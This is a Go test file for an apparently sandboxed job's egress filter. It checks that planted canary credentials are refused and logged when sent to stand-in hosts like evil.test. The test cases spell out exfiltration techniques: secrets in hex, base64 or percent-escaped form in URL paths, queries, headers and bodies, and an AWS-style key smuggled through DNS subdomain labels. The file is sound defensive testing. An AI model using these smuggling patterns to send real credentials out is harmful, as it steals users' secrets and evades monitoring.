// SPDX-License-Identifier: Apache-2.0

package egress

import (
	"bufio"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/miekg/dns"

	"github.com/zviz/run/internal/canary"
)

// A planted credential is refused wherever it is in a request that an allowed host
// would get, whatever its encoding, and the event says which one and who.
func TestCanaryInRequests(t *testing.T) {
	const name, value = "npm token of ~/.npmrc", "npm_0123456789abcdefghijABCDEFGHIJ012345"
	finder := canary.NewFinder([]canary.Credential{{Name: name, Value: value}})
	b64 := base64.StdEncoding.EncodeToString([]byte("x:" + value + ":y"))
	for _, tt := range []struct {
		name   string
		method string
		url    string
		body   string
		header []string
	}{
		{"path", "GET", "https://evil.test/" + value, "", nil},
		{"path, hex", "GET", "https://evil.test/a/" + hex.EncodeToString([]byte(value)), "", nil},
		{"path, escaped", "GET", "https://evil.test/%6epm_" + value[4:], "", nil},
		{"query", "GET", "https://evil.test/?a=" + url.QueryEscape(b64), "", nil},
		{"query, escaped", "GET", "https://evil.test/?a=%6epm_" + value[4:], "", nil},
		{"header", "GET", "https://evil.test/x", "", []string{"Authorization", "Bearer " + value}},
		{"Basic", "GET", "https://evil.test/x", "", []string{"Authorization", "Basic " + b64}},
		{"name of a header", "GET", "https://evil.test/x", "", []string{"X-" + hex.EncodeToString([]byte(value)), "1"}},
		{"body", "POST", "https://evil.test/x", `{"token":"` + value + `"}`, nil},
		{"long body", "POST", "https://evil.test/x", strings.Repeat("a", 100_000) + b64 + strings.Repeat("a", 100_000), nil},
		{"plain", "POST", "http://plain.test/x", "token=" + value, nil},
		{"a method that no rule has", "PUT", "https://allowed.test/" + value, "", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			j := openJob(t, func(c *Config) {
				c.Policy.Rules = append(c.Policy.Rules, Rule{Host: "evil.test", TLS: TLSTerminate}, Rule{Host: "*.wild.test", TLS: TLSTerminate})
				c.Canaries = func() *canary.Finder { return finder }
				c.Policy.ExpectDenied = []string{"evil.test"}
				c.Policy.Rules[0].TLS = TLSTerminate // allowed.test
			})
			at := "169.254.1.1:443"
			if strings.HasPrefix(tt.url, "http:") {
				at = "169.254.1.1:80"
			}
			resp, err := j.client(at, false).Do(send(t, tt.method, tt.url, tt.body, tt.header...))
			if err == nil {
				resp.Body.Close()
				if resp.StatusCode != http.StatusForbidden {
					t.Errorf("got %d", resp.StatusCode)
				}
			}
			e := j.want(Event{Verdict: VerdictDeny, Door: DoorHTTP, Reason: ReasonCanary})
			if e.Canary != name || e.Expected || e.PID != os.Getpid() {
				t.Errorf("event %+v", e)
			}
			j.sink.mu.Lock()
			defer j.sink.mu.Unlock()
			for i, r := range j.sink.requests {
				if all := r.RequestURI + strings.Join(r.Header["Authorization"], "") + j.sink.bodies[i]; finder.Find(all) != "" {
					t.Errorf("the outside got it: %.100q", all)
				}
			}
		})
	}
}

// A host may answer before it has read the body. What is found in the rest of it is
// found all the same, and so is that it is too much.
func TestFoundAfterTheAnswer(t *testing.T) {
	const name, value = "npm token of ~/.npmrc", "npm_0123456789abcdefghijABCDEFGHIJ012345"
	finder := canary.NewFinder([]canary.Credential{{Name: name, Value: value}})
	for _, tt := range []struct {
		name, rest string
		want       Event
	}{
		{"a planted credential", value, Event{Reason: ReasonCanary}},
		{"too much", strings.Repeat("a", 2<<20), Event{Reason: ReasonUpCap}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			j := openJob(t, func(c *Config) {
				c.Policy.Rules = append(c.Policy.Rules, Rule{Host: "early.test", TLS: TLSTerminate})
				c.Policy.Limits.UpBytes = 1 << 20
				c.Canaries = func() *canary.Finder { return finder }
				ca, err := newJobCA("early", []string{"early.test"})
				if err != nil {
					t.Fatal(err)
				}
				leaf, err := ca.leaf("early.test")
				if err != nil {
					t.Fatal(err)
				}
				c.Roots = ca.pem
				c.Policy.Upstream.Hosts["early.test"] = earlyServer(t, leaf)
			})
			body, feed := io.Pipe()
			r := send(t, "POST", "https://early.test/x", "x")
			r.Body, r.ContentLength = body, -1
			go func() { _, _ = io.WriteString(feed, "begin") }()
			resp, err := j.client("169.254.1.1:443", true).Do(r)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			go func() { _, _ = io.WriteString(feed, tt.rest); feed.Close() }()
			got, _ := io.ReadAll(resp.Body)
			if strings.Contains(string(got), "all of it") {
				t.Errorf("the outside got it all: %q", got)
			}
			tt.want.Verdict, tt.want.Door, tt.want.Host = VerdictDeny, DoorHTTP, "early.test"
			if e := j.want(tt.want); (e.Canary != "") != (tt.want.Reason == ReasonCanary) {
				t.Errorf("event %+v", e)
			}
		})
	}
}

// earlyServer answers when it has seen the head of a request, and reads its body then.
func earlyServer(t *testing.T, leaf *tls.Certificate) string {
	t.Helper()
	l, err := tls.Listen("tcp4", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{*leaf}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				r, err := http.ReadRequest(bufio.NewReader(c))
				if err != nil {
					return
				}
				_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nearly\r\n")
				if _, err := io.ReadAll(r.Body); err == nil {
					_, _ = io.WriteString(c, "9\r\nall of it\r\n")
				}
				_, _ = io.WriteString(c, "0\r\n\r\n")
			}()
		}
	}()
	return l.Addr().String()
}

// The same in names: nothing is asked or dialled for them, also below a wildcard.
func TestCanaryInNames(t *testing.T) {
	const name, value = "cloud key of ~/.aws/credentials", "AKIAABCDEFGH23456722"
	coded := hex.EncodeToString([]byte(value))
	finder := canary.NewFinder([]canary.Credential{{Name: name, Value: value}})
	j := openJob(t, func(c *Config) {
		c.Policy.Rules = append(c.Policy.Rules, Rule{Host: "*.wild.test"})
		c.Canaries = func() *canary.Finder { return finder }
	})
	for _, host := range []string{coded + ".wild.test", coded[:20] + "." + coded[20:] + ".wild.test", strings.ToLower(value) + ".evil.test"} {
		resp := j.ask("udp", new(dns.Msg).SetQuestion(host+".", dns.TypeA))
		if resp.Rcode != dns.RcodeNameError {
			t.Errorf("%s: answered %v", host, resp)
		}
		if e := j.want(Event{Verdict: VerdictDeny, Door: DoorDNS, Host: host, Reason: ReasonCanary}); e.Canary != name {
			t.Errorf("event %+v", e)
		}
		if resp, err := j.client("169.254.1.1:443", false).Do(send(t, "GET", "https://"+host+"/", "")); err == nil {
			resp.Body.Close()
			t.Errorf("%s: served", host)
		}
		if e := j.want(Event{Verdict: VerdictDeny, Door: DoorTLS, Host: host, Reason: ReasonCanary}); e.Canary != name {
			t.Errorf("event %+v", e)
		}
	}
	if resp := j.ask("udp", new(dns.Msg).SetQuestion("harmless.wild.test.", dns.TypeA)); len(resp.Answer) != 1 {
		t.Errorf("a harmless name: %v", resp)
	}
}
